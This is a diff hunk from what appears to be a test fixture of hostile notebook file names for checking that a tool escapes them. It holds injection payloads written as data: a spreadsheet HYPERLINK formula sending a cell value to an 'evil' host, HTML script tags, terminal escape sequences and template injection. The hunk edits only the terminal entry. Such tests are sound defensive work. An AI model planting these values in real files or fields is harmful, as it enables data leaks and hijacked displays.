@@ -44,7 +44,7 @@ NAMES = {
     "formula": '=HYPERLINK("http:evil?x="&A1,"grade").ipynb',
     "plus": "+1-1@SUM(A1).ipynb",
     "html": "<img src=x onerror=alert(1)><script>alert(2)<!-- &lt;.ipynb",
-    "terminal": "\x1b[2J\x1b]0;owned\x07\r[bold red]passed[/].ipynb",
+    "terminal": "\x1b[2J\x1b]0;owned\x07\r[bold red]passed[blink].ipynb",
     "lines": 'a,b"\n"c\n100,100.ipynb',
     "not_utf8": os.fsdecode(b"caf\xe9-\xff.ipynb"),
     "template": "{{ 7*7 }}{% raw %}.ipynb",
